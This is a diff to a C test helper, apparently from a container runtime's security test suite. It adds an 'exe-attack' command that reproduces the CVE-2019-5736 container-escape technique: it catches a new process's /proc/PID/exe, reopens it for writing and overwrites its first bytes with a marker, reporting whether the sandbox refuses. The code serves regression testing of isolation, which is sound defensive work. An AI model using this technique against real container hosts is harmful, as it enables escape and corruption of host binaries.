@@ -278,6 +278,68 @@ cmd_open_write (int argc, char **argv)
   return report (open (argv[1], O_WRONLY));
 }
 
+/* CVE-2019-5736: catch a process of this container that runs a file we do not (its /proc/PID/exe
+   opens only once it is dumpable, e.g. the helper run by a `#!/proc/self/exe` script), keep an O_PATH
+   fd to that file, then reopen it for writing through /proc/self/fd until no running copy keeps it
+   busy, and overwrite its first bytes. Prints "caught PATH", then "wrote" or "refused OP:ERRNO";
+   after SECONDS without a catch "missed", without a write "refused open:ETXTBSY". */
+static int
+cmd_exe_attack (int argc, char **argv)
+{
+  struct stat self, shell, st;
+  char path[64], target[256];
+  time_t deadline;
+  int fd = -1, wfd;
+  ssize_t n;
+
+  need (argc, 2, "exe-attack SECONDS");
+  setvbuf (stdout, NULL, _IOLBF, 0);
+  deadline = time (NULL) + atoi (argv[1]);
+  if (stat ("/proc/self/exe", &self) < 0 || stat ("/bin/sh", &shell) < 0)
+    return printf ("missed stat:%s\n", strerrorname_np (errno)), 1;
+  while (fd < 0 && time (NULL) < deadline)
+    {
+      /* The process an exec starts is the last PID made in this namespace. */
+      int last = 0, lfd = open ("/proc/sys/kernel/ns_last_pid", O_RDONLY | O_CLOEXEC);
+      if (lfd >= 0)
+        {
+          char num[16] = "";
+          if (read (lfd, num, sizeof num - 1) > 0)
+            last = atoi (num);
+          close (lfd);
+        }
+      if (last <= 1 || last == getpid ())
+        continue;
+      snprintf (path, sizeof path, "/proc/%d/exe", last);
+      fd = open (path, O_PATH | O_CLOEXEC);
+      if (fd >= 0 && (fstat (fd, &st) < 0 || (st.st_dev == self.st_dev && st.st_ino == self.st_ino)
+                      || (st.st_dev == shell.st_dev && st.st_ino == shell.st_ino)))
+        {
+          close (fd);
+          fd = -1;
+        }
+    }
+  if (fd < 0)
+    return printf ("missed\n"), 1;
+  snprintf (path, sizeof path, "/proc/self/fd/%d", fd);
+  n = readlink (path, target, sizeof target - 1);
+  target[n > 0 ? n : 0] = '\0';
+  printf ("caught %s\n", target);
+  for (;;)
+    {
+      wfd = open (path, O_WRONLY | O_CLOEXEC);
+      if (wfd >= 0)
+        break;
+      if (errno != ETXTBSY || time (NULL) >= deadline)
+        return printf ("refused open:%s\n", strerrorname_np (errno)), 0;
+      sleep_seconds (0.02);
+    }
+  n = pwrite (wfd, "MDPWNED\n", 8, 0);
+  if (n != 8)
+    return printf ("refused write:%s\n", n < 0 ? strerrorname_np (errno) : "short"), 0;
+  return printf ("wrote\n"), 0;
+}
+
 /* The classic chroot escape: chroot into a subdirectory while keeping a cwd (and an fd) outside it,
    walk up with "..", chroot("."), then try to read SENTINEL. Prints "escaped TEXT" or "confined ERRNO". */
 static int
@@ -350,6 +412,8 @@ dispatch (const char *cmd, int argc, char **argv)
     return cmd_syscall (argc, argv);
   if (!strcmp (cmd, "open-write"))
     return cmd_open_write (argc, argv);
+  if (!strcmp (cmd, "exe-attack"))
+    return cmd_exe_attack (argc, argv);
   if (!strcmp (cmd, "chroot-escape"))
     return cmd_chroot_escape (argc, argv);
   if (!strcmp (cmd, "euid"))
@@ -362,7 +426,7 @@ dispatch (const char *cmd, int argc, char **argv)
     }
   fprintf (stderr, "mdtest: unknown command '%s'\n"
            "commands: true false exit sleep echo cat memhog forkbomb spin pid hostname cmdline "
-           "fds trapterm lines stderr security-status syscall open-write chroot-escape euid\n", cmd);
+           "fds trapterm lines stderr security-status syscall open-write exe-attack chroot-escape euid\n", cmd);
   return 2;
 }
 
